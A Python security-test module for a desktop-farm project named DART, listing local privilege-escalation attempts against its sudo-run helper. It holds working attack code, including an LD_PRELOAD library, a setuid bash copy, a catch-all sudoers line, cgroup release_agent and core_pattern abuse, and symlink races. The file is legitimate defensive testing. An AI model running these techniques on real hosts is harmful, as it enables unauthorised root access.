"""The escalation book: ways in which the farm server's uid, an ordinary user, tries to become root through DART.

Each attempt is a function with the mark `@attempt`; its docstring says what it tries. It succeeds when root leaves the proof, shows the
secret, changes the victim, or leaves a program with root's rights; the test looks for these, not the attempt. To add one, write a function.
It runs as `python3 escalation_attempts.py NAME CONTEXT`, see `escalation_tools`.
"""

from __future__ import annotations

import ctypes
import json
import os
import resource
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

from escalation_tools import ATTEMPTS, Attacker, Farm, attempt, main, send_descriptor

BOOK = ATTEMPTS
SUID_COPY = "cp /bin/bash /tmp/rootsh && chmod 4755 /tmp/rootsh && ls -l /tmp/rootsh"

# The test's own holes: these must be seen.


@attempt
def planted_program_with_roots_rights(attacker: Attacker) -> None:
    """Use the hole that the test made: a copy of `install` with root's setuid bit, to write the proof."""
    subprocess.run([str(attacker.planted), "-m", "600", "/etc/hostname", str(attacker.proof)], check=False)


@attempt
def planted_program_changes_the_victim(attacker: Attacker) -> None:
    """Use the hole to write over a file of root's."""
    subprocess.run([str(attacker.planted), "-m", "644", "/etc/hostname", str(attacker.victim)], check=False)


@attempt
def planted_program_shows_the_secret(attacker: Attacker) -> None:
    """Use the hole to copy a file that only root may read."""
    subprocess.run([str(attacker.planted), "-m", "644", str(attacker.secret), str(attacker.canary / "x")], check=False)
    subprocess.run([str(attacker.planted), "-m", "644", str(attacker.secret), "/dev/stdout"], check=False)


@attempt
def planted_setuid_copy(attacker: Attacker) -> None:
    """Use the hole to leave a setuid program for later."""
    subprocess.run([str(attacker.planted), "-m", "4755", "/bin/true", str(attacker.home / "later")], check=False)


# sudo's one line.


@attempt
def sudo_another_program(attacker: Attacker) -> None:
    """Run a program of his own, a shell, and Python with code."""
    evil = attacker.evil(attacker.home / "evil")
    for words in (
        [str(evil)],
        ["sh", "-c", str(evil)],
        ["/usr/bin/python3", "-IS", "-c", f"import os; os.system({str(evil)!r})"],
    ):
        print(attacker.sudo(*words))


@attempt
def sudo_more_arguments(attacker: Attacker) -> None:
    """Give the starter arguments, so that root runs his own CRIU."""
    tools = attacker.home / "tools"
    attacker.evil(tools / "tools" / "criu-4" / "bin" / "criu")
    for more in (["--tools-dir", str(tools)], ["--help"], [""], ["--reap", "--state-dir", "/etc"]):
        print(attacker.sudo(*attacker.starter, *more))


@attempt
def sudo_fewer_flags(attacker: Attacker) -> None:
    """Run the starter without Python's isolated mode, with modules of his own in its way."""
    evil = attacker.evil_python(attacker.home / "lib" / "json.py")
    environment = {**os.environ, "PYTHONPATH": str(evil.parent)}
    for flags in ([], ["-S"], ["-I"], ["-i"], ["-IS", "-i"]):
        print(attacker.sudo(attacker.starter[0], *flags, attacker.starter[-1], env=environment, cwd=evil.parent))


@attempt
def sudo_path_of_the_script(attacker: Attacker) -> None:
    """Reach a script of his own by a path that begins like the starter's."""
    evil = attacker.evil_python(attacker.home / "evil.py")
    script = Path(attacker.starter[-1])
    up = "/".join([".."] * len(script.parts))
    for path in (f"{script}/../{up}{evil}", f"{script.parent}/{up}{evil}", f"{script}\n{evil}", f"{script} {evil}"):
        print(attacker.sudo(*attacker.starter[:-1], path))


@attempt
def sudo_helper_instead_of_starter(attacker: Attacker) -> None:
    """Run the helper itself, which takes directories as arguments, and CRIU's installer."""
    tools = attacker.home / "tools"
    attacker.evil(tools / "tools" / "criu-4" / "bin" / "criu")
    own = ["--state-dir", str(attacker.home / "s"), "--runtime-dir", str(attacker.home), "--images-dir", "/"]
    print(attacker.sudo(*attacker.starter[:-1], str(attacker.helper_script), *own, "--tools-dir", str(tools)))
    criu = attacker.helper_script.with_name("dart-criu")
    print(attacker.sudo(*attacker.starter[:-1], str(criu), "find", "--tools-dir", str(tools)))


@attempt
def sudo_environment(attacker: Attacker) -> None:
    """Load a library and modules of his own into the starter through the environment."""
    folder = attacker.home / "env"
    for module in ("sitecustomize", "usercustomize", "json", "socket", "dart_server/__init__"):
        attacker.evil_python(folder / f"{module}.py")
    names = {"PYTHONPATH": folder, "PYTHONHOME": folder, "PYTHONSTARTUP": folder / "json.py", "PYTHONUSERBASE": folder}
    names |= {"LD_PRELOAD": folder / "evil.so", "LD_LIBRARY_PATH": folder, "LD_AUDIT": folder / "evil.so"}
    names |= {"PYTHONINSPECT": "1", "BASH_ENV": folder / "sh", "ENV": folder / "sh", "DART_HOME": folder}
    environment = {name: str(value) for name, value in names.items()}
    attacker.evil(folder / "sh")
    with suppress(FileNotFoundError):
        source = folder / "evil.c"
        source.write_text(
            "#include <unistd.h>\n#include <fcntl.h>\n__attribute__((constructor)) void f(void)"
            f'{{ open("{attacker.proof}", O_CREAT|O_WRONLY, 0600); }}\n'
        )
        subprocess.run(["cc", "-shared", "-fPIC", "-o", str(folder / "evil.so"), str(source)], check=False)
    attacker.farm(env={**os.environ, **environment}, cwd=folder).desktop()
    assigned = [f"{name}={value}" for name, value in environment.items()]
    print(attacker.sudo(*assigned, *attacker.starter), attacker.sudo("-E", *attacker.starter, env=environment))


@attempt
def sudo_modules_in_the_directory(attacker: Attacker) -> None:
    """Start it in a directory, and with a home, that are full of modules with the names that it imports."""
    folder = attacker.home / "cwd"
    for module in ("os", "json", "socket", "argparse", "ctypes/__init__", "dart_server/__init__", "sitecustomize"):
        attacker.evil_python(folder / f"{module}.py")
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    site = attacker.home / ".local" / "lib" / version / "site-packages"
    attacker.evil_python(site / "usercustomize.py")
    (site / "evil.pth").write_text(f"import os; open({str(attacker.proof)!r}, 'w')\n")
    attacker.farm(cwd=folder).desktop()


@attempt
def sudo_programs_in_path(attacker: Attacker) -> None:
    """Put programs of his own before those that root runs: runc, CRIU, cp, sh, modprobe, python3."""
    folder = attacker.home / "bin"
    for program in ("runc", "criu", "cp", "sh", "modprobe", "python3", "iptables", "newuidmap", "mount", "env"):
        attacker.evil(folder / program)
    real = shutil.which("sudo") or "sudo"
    (folder / "sudo").symlink_to(real)
    farm = attacker.farm(env={**os.environ, "PATH": f"{folder}:/usr/bin:/bin"})
    farm.desktop()
    farm.ask("doctor")
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    farm.ask("restore", desktop_id="d2", snapshot_id="s1")


@attempt
def sudo_claims_to_be_root(attacker: Attacker) -> None:
    """Say by the environment and by sudo's options that root asks."""
    names = {"SUDO_UID": "0", "SUDO_USER": "root", "SUDO_GID": "0", "USER": "root", "LOGNAME": "root", "HOME": "/root"}
    farm = attacker.farm(env={**os.environ, **names})
    print(farm.reply)
    for options in (
        ["-u", "root"],
        ["-u", "#0"],
        ["-u", "#-1"],
        ["-g", "root"],
        ["-R", "/"],
        ["-D", "/"],
        ["-i"],
        ["-s"],
        ["-e", "/etc/passwd"],
    ):
        print(attacker.sudo(*options, *attacker.starter))


@attempt
def sudo_from_a_user_namespace(attacker: Attacker) -> None:
    """Be root of a user namespace first, with mounts of his own over what the starter reads."""
    tools = attacker.evil(attacker.home / "ns" / "criu")
    script = (
        f"mount --bind {tools.parent} /usr/local/lib/dart-hostd; sudo -n {' '.join(attacker.starter)} </dev/null; id"
    )
    print(
        subprocess.run(["unshare", "-Urm", "sh", "-c", script], capture_output=True, text=True, check=False, timeout=20)
    )


@attempt
def sudo_edits_its_rules(attacker: Attacker) -> None:
    """Write another line into sudo's directory, by the setup's own installer and by hand."""
    for path in ("/etc/sudoers.d/dart", "/etc/sudoers.d/zz"):
        with suppress(OSError):
            Path(path).write_text("ALL ALL=(ALL) NOPASSWD: ALL\n")
    script = attacker.helper_script.parent / "dart_server" / "hostd" / "installation.py"
    print(attacker.sudo(*attacker.starter[:-1], str(script), "--allow-uid", str(os.getuid())))
    print(
        subprocess.run(
            ["/usr/bin/python3", str(script), "--allow-uid", "0"], capture_output=True, text=True, check=False
        )
    )


@attempt
def image_build_as_root(attacker: Attacker) -> None:
    """Build an image of his own recipe, whose commands run as root on the host."""
    recipe = attacker.evil(attacker.home / "recipe.toml")
    for words in (["mmdebstrap", "--help"], ["/usr/bin/python3", "build.py", "build", str(recipe)]):
        print(attacker.sudo(*words))


# The request.


@attempt
def request_with_other_fields(attacker: Attacker) -> None:
    """Name tools, a state directory, an owner and a program in the request."""
    tools = attacker.home / "tools"
    attacker.evil(tools / "tools" / "criu-4" / "bin" / "criu")
    good = {
        "runtime_dir": str(attacker.home / "r"),
        "images_dir": str(attacker.images),
        "store_dir": "/dev/shm",
        "idle_timeout_s": 1.0,
    }
    for more in (
        {"tools_dir": str(tools)},
        {"state_dir": "/etc"},
        {"owner_uid": 0},
        {"runc": str(tools)},
        {"store_mib": 1},
    ):
        attacker.farm(request=json.dumps({**good, **more}).encode() + b"\n")


@attempt
def request_that_is_no_request(attacker: Attacker) -> None:
    """Deep, large and broken JSON, and a standard input that is no socket."""
    for line in (
        b"[" * 500_000 + b"\n",
        b'{"a":' * 100_000 + b"\n",
        b"\xff\xfe\n",
        b"1" * 2_000_000 + b"\n",
        b'{"runtime_dir": 1}\n',
    ):
        attacker.farm(request=line)
    for stdin in ("/etc/passwd", "/dev/zero", "/dev/null", "/proc/self/mem"):
        with open(stdin, "rb") as file:
            print(attacker.sudo(*attacker.starter, stdin=file))
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        print(attacker.sudo(*attacker.starter, stdin=theirs))


@attempt
def request_for_directories_of_roots(attacker: Attacker) -> None:
    """Name directories of root's for everything."""
    for place in (
        attacker.canary,
        Path("/etc"),
        Path("/root"),
        attacker.victim.parent,
        Path("/etc/../etc"),
        Path("/proc/1/root/etc"),
    ):
        message = {"runtime_dir": str(place), "images_dir": str(place), "store_dir": str(place), "idle_timeout_s": 0.1}
        farm = attacker.farm(request=json.dumps(message).encode() + b"\n")
        if farm.reply.get("socket"):
            farm.desktop()


@attempt
def request_from_somebody_elses_socket(attacker: Attacker) -> None:
    """Hand in a connection to a socket of root's, so that root talks to root."""
    for path in (
        "/run/dbus/system_bus_socket",
        "/run/docker.sock",
        "/run/systemd/private",
        "/run/systemd/journal/stdout",
    ):
        with suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
            print(attacker.sudo(*attacker.starter, stdin=connection))


# Directories, links, and changes while root works.


def _swap(first: Path, second: Path, stop: threading.Event) -> None:
    """Exchange two names again and again."""
    spare = first.with_name(f"{first.name}.spare")
    while not stop.is_set():
        for source, target in ((first, spare), (second, first), (spare, second)):
            with suppress(OSError):
                os.rename(source, target)


@attempt
def link_in_place_of_the_socket(attacker: Attacker) -> None:
    """Replace the helper's socket by a link to the victim before root gives it to its user."""
    runtime = attacker.home / "r"
    runtime.mkdir(exist_ok=True)
    stop = threading.Event()

    def replace() -> None:
        while not stop.is_set():
            for place in (runtime / "hostd.sock", Path("/run/dart-hostd/hostd.sock")):
                with suppress(OSError):
                    place.unlink()
                with suppress(OSError):
                    place.symlink_to(attacker.victim)

    thread = threading.Thread(target=replace)
    thread.start()
    for _ in range(3):
        farm = attacker.farm(runtime=runtime)
        with suppress(OSError):
            farm.socket.unlink()
            farm.socket.symlink_to(attacker.victim)
        farm.end()
    stop.set()
    thread.join()


@attempt
def log_is_a_link(attacker: Attacker) -> None:
    """Leave links to the victim where root might write a log, a lock, or CRIU's report of a failure."""
    runtime = attacker.home / "r"
    (runtime / "hostd").mkdir(parents=True, exist_ok=True)
    names = ("hostd.log", "hostd/hostd.lock", "hostd/criu-failure.log", "hostd/live", "farm.lock", "farm.log")
    for name in names:
        (runtime / name).symlink_to(attacker.victim)
    farm = attacker.farm(runtime=runtime)
    farm.desktop()
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    farm.as_root_inside("sh", "-c", "kill -STOP 1")
    farm.ask("restore", desktop_id="d2", snapshot_id="s1")


@attempt
def bundle_of_his_own(attacker: Attacker) -> None:
    """Give root a runtime directory in which a desktop's configuration, with a hook that runs on the host, lies already."""
    runtime = attacker.home / "r"
    evil = attacker.evil(attacker.home / "hook")
    config = {
        "ociVersion": "1.0.2",
        "root": {"path": "/"},
        "process": {"args": [str(evil)], "cwd": "/", "user": {"uid": 0, "gid": 0}},
        "hooks": {"createRuntime": [{"path": str(evil)}]},
        "linux": {"namespaces": [{"type": "mount"}]},
    }
    farm = attacker.farm(runtime=runtime)
    for serial in range(4):
        for state in (runtime / "hostd", runtime / "state"):
            place = state / "live" / "d" / f"d1.{serial:x}"
            with suppress(OSError):
                place.mkdir(parents=True)
                (place / "config.json").write_text(json.dumps(config))
    stop = threading.Event()
    (runtime / "other").mkdir(exist_ok=True)
    thread = threading.Thread(target=_swap, args=(runtime / "hostd", runtime / "other", stop))
    thread.start()
    for _ in range(3):
        farm.desktop()
        farm.ask("destroy", desktop_id="d1")
    stop.set()
    thread.join()


@attempt
def squats_in_run(attacker: Attacker) -> None:
    """Make, rename or replace what lies in the directory of the helpers."""
    farm = attacker.farm()
    top = Path("/run/dart-hostd")
    for action in (
        lambda: (top / f"dart-{os.getuid()}-00000000").mkdir(),
        lambda: (top / "x").symlink_to("/etc"),
        lambda: os.rename(farm.socket.parent, top / "gone"),
        lambda: os.rename(top, "/run/gone"),
        lambda: os.rename(farm.socket, farm.socket.with_name("x")),
        lambda: (farm.socket.parent / "state" / "live").chmod(0o777),
        lambda: print(os.listdir(farm.socket.parent / "state")),
        lambda: shutil.rmtree(farm.socket.parent),
    ):
        try:
            action()
            print("allowed")
        except OSError as error:
            print(error)


@attempt
def store_is_a_link(attacker: Attacker) -> None:
    """Name a store that is a link to a directory of root's, on a disk and in memory."""
    for number, target in enumerate((attacker.canary, attacker.victim.parent, Path("/etc"), Path("/dev/shm"))):
        link = attacker.home / f"store-{number}"
        link.symlink_to(target)
        farm = attacker.farm(store=link)
        if farm.reply.get("socket"):
            farm.desktop()
            farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")


@attempt
def store_is_exchanged(attacker: Attacker) -> None:
    """Exchange root's part of his store for a directory of his own and for a link, while desktops are made there."""
    store = attacker.home / "store"
    store.mkdir()
    stop = threading.Event()
    mine = store / "mine"
    mine.mkdir(mode=0o777)

    def exchange() -> None:
        while not stop.is_set():
            for entry in list(store.iterdir()):
                if entry.name.startswith("dart-"):
                    with suppress(OSError):
                        os.rename(entry, store / f"away-{time.monotonic_ns()}")
                    with suppress(OSError):
                        os.rename(mine, entry)
                        mine.mkdir(mode=0o777)

    thread = threading.Thread(target=exchange)
    thread.start()
    try:
        for _ in range(3):
            farm = attacker.farm(store=store)
            if farm.reply.get("socket"):
                farm.desktop()
                farm.as_root_inside("sh", "-c", SUID_COPY)
                farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
            for shell in store.rglob("rootsh"):
                print(
                    subprocess.run(
                        [str(shell), "-p", "-c", f"id -u > {attacker.proof}"], capture_output=True, check=False
                    )
                )
            farm.end()
    finally:
        stop.set()
        thread.join()


@attempt
def store_of_somebody_else(attacker: Attacker) -> None:
    """Name a store that another user owns, and one in a directory that everybody may write to, squatted with a link."""
    squat = Path("/dev/shm") / f"dart-squat-{os.getuid()}"
    with suppress(OSError):
        squat.symlink_to(attacker.victim.parent)
    try:
        for place in (squat, Path("/usr/local/lib/dart-hostd"), Path("/var/tmp")):
            farm = attacker.farm(store=place)
            if farm.reply.get("socket"):
                farm.desktop()
    finally:
        squat.unlink()


# Images.


def _image(attacker: Attacker, name: str = "basic") -> Path:
    """An image directory of the attacker's own; the place of its version."""
    place = attacker.home / "images" / name / "0123456789ab"
    place.mkdir(parents=True, exist_ok=True)
    (place / "manifest.json").write_text(json.dumps({"digest": "0123456789ab", "init": ["/bin/sh"]}))
    (place.parent / "current").symlink_to("0123456789ab")
    return place


@attempt
def image_is_the_host(attacker: Attacker) -> None:
    """Have the host's own file system mounted as an image, by a link, to read the secret inside."""
    place = _image(attacker)
    (place / "rootfs").symlink_to("/")
    farm = attacker.farm(images=attacker.home / "images")
    farm.desktop()
    farm.as_root_inside("cat", str(attacker.secret))


@attempt
def image_link_leads_to_roots(attacker: Attacker) -> None:
    """Point `current`, the image's name, and the images directory at directories of root's."""
    for number, target in enumerate((Path("/"), attacker.secret.parent, Path("/usr/local/lib"), Path("/proc/1/root"))):
        top = attacker.home / f"images-{number}"
        (top / "basic").mkdir(parents=True)
        (top / "basic" / "current").symlink_to(target)
        farm = attacker.farm(images=top)
        farm.desktop()
        farm.end()
    (attacker.home / "link").symlink_to("/root")
    attacker.farm(images=attacker.home / "link").desktop()


@attempt
def image_of_his_own(attacker: Attacker) -> None:
    """Have root boot an image that he wrote himself."""
    place = _image(attacker)
    (place / "rootfs" / "bin").mkdir(parents=True)
    attacker.evil(place / "rootfs" / "bin" / "sh")
    attacker.farm(images=attacker.home / "images").desktop()


@attempt
def image_manifest_is_a_secret(attacker: Attacker) -> None:
    """Have root read the secret as an image's manifest, to see it in the answer."""
    place = _image(attacker)
    (place / "rootfs").mkdir()
    (place / "manifest.json").unlink()
    (place / "manifest.json").symlink_to(attacker.secret)
    attacker.farm(images=attacker.home / "images").desktop()


@attempt
def image_is_exchanged(attacker: Attacker) -> None:
    """Exchange a good image for a link to the host's file system while desktops boot and are restored."""
    top = attacker.home / "images"
    (top / "basic").mkdir(parents=True)
    current = top / "basic" / "current"
    good, bad = (attacker.images / "basic" / "current").resolve(), attacker.home / "bad"
    bad.mkdir()
    (bad / "rootfs").symlink_to("/")
    (bad / "manifest.json").write_text(json.dumps({"digest": "0123456789ab"}))
    current.symlink_to(good)
    stop = threading.Event()

    def exchange() -> None:
        while not stop.is_set():
            for target in (bad, good):
                spare = top / "basic" / "spare"
                with suppress(OSError):
                    spare.symlink_to(target)
                    os.replace(spare, current)

    thread = threading.Thread(target=exchange)
    farm = attacker.farm(images=top)
    thread.start()
    for number in range(6):
        answer, _ = farm.ask("create", desktop_id=f"d{number}", **_desktop())
        if "ok" in answer:
            time.sleep(0.5)
            with suppress(OSError, ValueError, IndexError):
                print(farm.call("GET", f"/v1/files?path={attacker.secret}", None, f"d{number}"))
        farm.ask("destroy", desktop_id=f"d{number}")
    stop.set()
    thread.join()


def _desktop() -> dict[str, object]:
    limits = {"memory_mib": 768, "pids": 256, "cpus": 2.0, "disk_mib": 128}
    return {"image": "basic", "resolution": [640, 400], "font_size": None, "proxy_port": None, **limits}


# Verbs.


@attempt
def verbs_with_paths(attacker: Attacker) -> None:
    """Paths, links and options in the place of ids and image names."""
    farm = attacker.farm()
    farm.desktop()
    for wrong in (
        "../../../etc",
        "/etc",
        "..",
        ".",
        "--help",
        "d1/../../x",
        "d1\0x",
        "a" * 500,
        "",
        None,
        7,
        ["d1"],
        {"a": 1},
    ):
        farm.ask("create", **{**_desktop(), "desktop_id": "d9", "image": wrong})
        farm.ask("create", **{**_desktop(), "desktop_id": wrong})
        farm.ask("checkpoint", desktop_id="d1", snapshot_id=wrong)
        farm.ask("restore", desktop_id=wrong, snapshot_id=wrong)
        farm.ask("quarantine", snapshot_id=wrong)
        farm.ask("dial", desktop_id="d1", port=wrong)


@attempt
def verbs_that_are_none(attacker: Attacker) -> None:
    """Names of the helper's own methods and fields as verbs, with fields that no verb has."""
    farm = attacker.farm()
    for name in (
        "close",
        "_kill",
        "_save",
        "__init__",
        "__class__",
        "storage",
        "layout",
        "runc",
        "_perform",
        "eval",
        "exec",
    ):
        farm.ask(name)
        farm.ask(name, desktop_id="d1")
    for field in ("tools_dir", "rootfs", "env", "argv", "hooks", "capabilities", "mounts"):
        farm.ask("create", desktop_id="d1", **{**_desktop(), field: "/bin/sh"})
    for line in (b"[" * 200_000 + b"\n", b'{"verb": "ping", "verb": "stop"}\n', b"\0\n"):
        with suppress(OSError, ValueError):
            farm.send(line)


@attempt
def verbs_with_wild_numbers(attacker: Attacker) -> None:
    """Limits and ports beyond any sense, which end up in runc's configuration."""
    farm = attacker.farm()
    for field in ("memory_mib", "pids", "cpus", "disk_mib", "font_size", "proxy_port"):
        for value in (-1, 0, 1 << 70, 1e308, "1; id", True, [1], "../x"):
            farm.ask("create", **{**_desktop(), "desktop_id": "d1", field: value})
            farm.ask("destroy", desktop_id="d1")


@attempt
def helper_of_another_user(attacker: Attacker) -> None:
    """Speak to every helper and to every socket of root's in the directory of the helpers."""
    for path in Path("/run/dart-hostd").glob("*/hostd.sock"):
        if path.stat().st_uid != os.getuid():
            with socket.socket(socket.AF_UNIX) as connection:
                connection.connect(str(path))
                print("reached", path)


# Processes of root's.


@attempt
def helper_is_traced(attacker: Attacker) -> None:
    """Trace the helper and the starter, read their memory, files and directories."""
    farm = attacker.farm()
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {farm.helper_pid(), farm.process.pid}:
        print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
        for name in ("mem", "environ", "maps"):
            try:
                Path(f"/proc/{pid}/{name}").read_bytes()
                print("read", name)
            except OSError as error:
                print(error)
        for name in ("root", "cwd", "fd"):
            try:
                print(os.listdir(f"/proc/{pid}/{name}"))
            except OSError as error:
                print(error)
        with suppress(AttributeError, OSError):
            descriptor = os.pidfd_open(pid)
            print([libc.syscall(438, descriptor, number, 0) for number in range(10)])


@attempt
def helper_is_signalled(attacker: Attacker) -> None:
    """End root's processes, and stop the starter between the helper's death and the next one."""
    farm = attacker.farm()
    pid = farm.helper_pid()
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGUSR1):
        for target in (pid, farm.process.pid, -farm.process.pid):
            try:
                os.kill(target, number)
                print("allowed", number, target)
            except OSError as error:
                print(error)
    farm.process.terminate()
    time.sleep(0.3)


@attempt
def limits_of_the_caller(attacker: Attacker) -> None:
    """Start it with limits that make its writes end early, and with core files allowed."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        resource.setrlimit(resource.RLIMIT_CPU, (2, 2))

    farm = attacker.farm(preexec_fn=limit, cwd=attacker.home)
    if farm.reply.get("socket"):
        farm.desktop()

    def few_files() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (8, 8))

    attacker.farm(preexec_fn=few_files)


@attempt
def mask_and_closed_files(attacker: Attacker) -> None:
    """Start it with every permission in the mask and without standard output, so that root's files take that number."""

    def close() -> None:
        os.umask(0)
        for descriptor in (1, 2):
            os.close(descriptor)

    farm = attacker.farm(preexec_fn=close, stdout=None, stderr=None)
    if farm.reply.get("socket"):
        farm.desktop()
    for path in (Path("/run/dart-hostd"), farm.socket.parent, farm.socket):
        mode = stat.S_IMODE(path.stat().st_mode)
        print(path, oct(mode))
        if mode & 0o022:
            print("open to all:", path)
            (farm.socket.parent / attacker.name).symlink_to("/etc")


@attempt
def output_into_the_kernel(attacker: Attacker) -> None:
    """Give it files of the kernel's as standard output and error, for root to write to."""
    pid = os.fork()
    if pid == 0:
        ctypes.CDLL(None).unshare(0x10000000)
        time.sleep(10)
        os._exit(0)
    time.sleep(0.3)
    try:
        for name in ("uid_map", "gid_map", "oom_score_adj", "attr/current", "mem"):
            with suppress(OSError), open(f"/proc/{pid}/{name}", "wb", buffering=0) as file:
                attacker.farm(stdout=file, stderr=file)
        print(Path(f"/proc/{pid}/uid_map").read_text())
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


@attempt
def signals_ignored_and_blocked(attacker: Attacker) -> None:
    """Start it with every signal ignored and blocked, a timer set, and a system-call filter of his own."""

    def hostile() -> None:
        for number in signal.valid_signals():
            with suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        signal.setitimer(signal.ITIMER_REAL, 0.5)

    farm = attacker.farm(preexec_fn=hostile)
    if farm.reply.get("socket"):
        farm.desktop()
        time.sleep(0.5)

    def filtered() -> None:
        ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)

    attacker.farm(preexec_fn=filtered)


@attempt
def control_groups_of_the_helper(attacker: Attacker) -> None:
    """Write to the control groups of desktops, whose release agent is a program that root runs."""
    farm = attacker.farm()
    farm.desktop()
    evil = attacker.evil(attacker.home / "agent")
    root = Path("/sys/fs/cgroup")
    for place in (
        root,
        *root.glob("*"),
        *root.glob(f"*/{farm.socket.parent.name}/*"),
        *root.glob(f"{farm.socket.parent.name}/*"),
    ):
        for name, text in (
            ("release_agent", str(evil)),
            ("notify_on_release", "1"),
            ("cgroup.procs", str(os.getpid())),
            ("memory.max", "1"),
        ):
            if (place / name).exists():
                try:
                    (place / name).write_text(text)
                    print("wrote", place / name)
                except OSError:
                    continue


# Root of a desktop and the user outside, together.


@attempt
def setuid_program_from_inside(attacker: Attacker) -> None:
    """Have root of a desktop make a setuid shell, and run it from outside through the desktop's processes."""
    farm = attacker.farm()
    farm.desktop()
    farm.as_root_inside("sh", "-c", SUID_COPY)
    farm.as_root_inside(
        "setpriv",
        "--reuid",
        str(os.getuid()),
        "--clear-groups",
        "--regid",
        str(os.getgid()),
        "sleep",
        "60",
        detach=True,
    )
    time.sleep(0.3)
    for pid in farm.processes():
        shell = f"/proc/{pid}/root/tmp/rootsh"
        done = (
            subprocess.run(
                [shell, "-p", "-c", f"id -u > {attacker.proof}; id"], capture_output=True, text=True, check=False
            )
            if os.path.exists(shell)
            else None
        )
        print(pid, done)


@attempt
def device_from_inside(attacker: Attacker) -> None:
    """Have root of a desktop make devices of the host's memory and disks, and mount the host's file systems."""
    farm = attacker.farm()
    farm.desktop()
    farm.as_root_inside(
        "sh",
        "-c",
        "mknod /tmp/mem c 1 1; mknod /tmp/disk b 254 0; mknod /tmp/disk2 b 8 0; head -c 1 /tmp/mem; "
        "mount -t proc p /mnt; mount -t cgroup c /mnt",
    )
    farm.as_root_inside(
        "sh",
        "-c",
        f"echo '|{attacker.home}/x' > /proc/sys/kernel/core_pattern; echo x > /proc/sysrq-trigger; cat {attacker.secret}",
    )


def _taker(listen: str, attacker: Attacker) -> str:
    """A program for root of a desktop: it takes a directory of the host over a socket and makes the proof in it."""
    return (
        "import os, socket, subprocess, time\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        f"{listen}\n"
        "s.listen(5)\n"
        "while True:\n"
        "    c, _ = s.accept()\n"
        "    _, fds, _, _ = socket.recv_fds(c, 10, 1)\n"
        "    if fds:\n"
        f"        os.close(os.open({str(attacker.proof)[1:]!r}, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fds[0]))\n"
    )


@attempt
def directory_handed_to_root_inside(attacker: Attacker) -> None:
    """Hand a directory of the host to root of a desktop, who has taken the agent's place, over the socket that `dial` gives."""
    farm = attacker.farm()
    farm.desktop()
    take_the_name = (
        "for _ in range(500):\n"
        "    subprocess.run(['pkill', '-KILL', '-f', '[d]art_guest'])\n"
        "    try:\n"
        "        s.bind('\\0dart-guest'); break\n"
        "    except OSError: time.sleep(0.002)"
    )
    farm.as_root_inside("setsid", "python3", "-c", _taker(take_the_name, attacker), detach=True)
    for _ in range(10):
        time.sleep(0.2)
        _, connection = farm.ask("dial", desktop_id="d1", port="control")
        if connection is not None:
            with connection, suppress(OSError):
                send_descriptor(connection, os.open("/", os.O_RDONLY | os.O_DIRECTORY))
                time.sleep(0.1)


def _hand_over_in_the_files(attacker: Attacker, farm: Farm) -> None:
    """Hand a directory to root of the desktop `d1` over a socket in its files, reached through a process of the attacker's uid."""
    program = _taker("s.bind('/tmp/hand'); os.chmod('/tmp/hand', 0o777)", attacker)
    farm.as_root_inside("python3", "-c", program, detach=True)
    ids = f"os.setgroups([]); os.setresgid(*[{os.getgid()}] * 3); os.setresuid(*[{os.getuid()}] * 3)"
    become = f"import os; {ids}; os.execvp('sleep', ['sleep', '60'])"
    farm.as_root_inside("python3", "-c", become, detach=True)
    time.sleep(0.7)
    for pid in farm.processes():
        with suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
            os.chdir(f"/proc/{pid}/root/tmp")
            connection.connect("hand")
            send_descriptor(connection, os.open("/", os.O_RDONLY | os.O_DIRECTORY))
            time.sleep(0.5)
            print("handed over through", pid)
            return


@attempt
def directory_handed_through_a_shared_socket(attacker: Attacker) -> None:
    """Hand a directory of the host to root of a desktop over a socket in the desktop's files, reached through a process of his own uid."""
    farm = attacker.farm()
    farm.desktop()
    _hand_over_in_the_files(attacker, farm)


@attempt
def directory_handed_to_a_restored_copy(attacker: Attacker) -> None:
    """The same with a desktop that CRIU has restored."""
    farm = attacker.farm()
    farm.desktop()
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    farm.ask("restore", desktop_id="d1", snapshot_id="s1")
    time.sleep(0.5)
    _hand_over_in_the_files(attacker, farm)


@attempt
def ids_shared_for_a_directory_of_his(attacker: Attacker) -> None:
    """Name images on a file system that cannot translate ids while the helper starts, so that desktops share the host's; then the same."""
    top = attacker.home / "images"
    top.symlink_to("/proc")
    farm = attacker.farm(images=top)
    top.unlink()
    top.symlink_to(attacker.images)
    farm.desktop()
    _hand_over_in_the_files(attacker, farm)


@attempt
def ids_shared_for_want_of_processes(attacker: Attacker) -> None:
    """Start the helper with few processes and little memory, so that its look for ranges of user ids fails; then the same."""
    for limit, value in ((resource.RLIMIT_NPROC, 3), (resource.RLIMIT_NOFILE, 24), (resource.RLIMIT_AS, 1 << 28)):

        def lower(limit: int = limit, value: int = value) -> None:
            resource.setrlimit(limit, (value, value))

        farm = attacker.farm(preexec_fn=lower)
        if farm.reply.get("socket"):
            farm.desktop()
            _hand_over_in_the_files(attacker, farm)


@attempt
def files_left_by_root_inside(attacker: Attacker) -> None:
    """Reach the files of a desktop, with what root inside made there, in the place of the snapshots."""
    store = attacker.home / "store"
    farm = attacker.farm(store=store)
    farm.desktop()
